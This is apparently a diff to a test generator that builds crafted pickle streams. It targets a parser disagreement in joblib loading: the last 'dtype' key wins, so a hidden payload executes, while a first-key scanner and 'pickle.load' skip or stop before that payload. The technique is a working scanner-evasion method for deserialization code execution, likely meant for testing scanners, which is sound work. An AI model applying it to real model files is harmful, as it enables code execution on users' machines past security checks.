@@ -98,9 +98,14 @@ def wrapper(n: int, dtypes: list[bytes]) -> bytes:
 
 def joblib_last_dtype_wins(canary: str) -> bytes:
     """First ``dtype`` says uint8 (n bytes of data), the last says object: joblib reads a
-    nested pickle (the payload) where a first-key reader skips n bytes."""
-    nested = os_system(canary)
-    body = wrapper(len(nested), [dtype_call("u1"), dtype_call("O8")]) + nested
+    nested pickle (``None``, 4 bytes) and goes on with the payload, where a first-key
+    reader skips n bytes (payload included); ``pickle.load`` stops at the nested STOP."""
+    nested = PROTO2 + NONE + STOP
+    hidden = pay(canary) + POP
+    n = 4096
+    filler_len = n - len(nested) - len(hidden) - 5 - 1
+    filler = b"B" + struct.pack("<I", filler_len) + b"\0" * filler_len + POP
+    body = wrapper(n, [dtype_call("u1"), dtype_call("O8")]) + nested + hidden + filler
     return PROTO4 + EMPTY_LIST + MARK + body + APPENDS + STOP
 
 
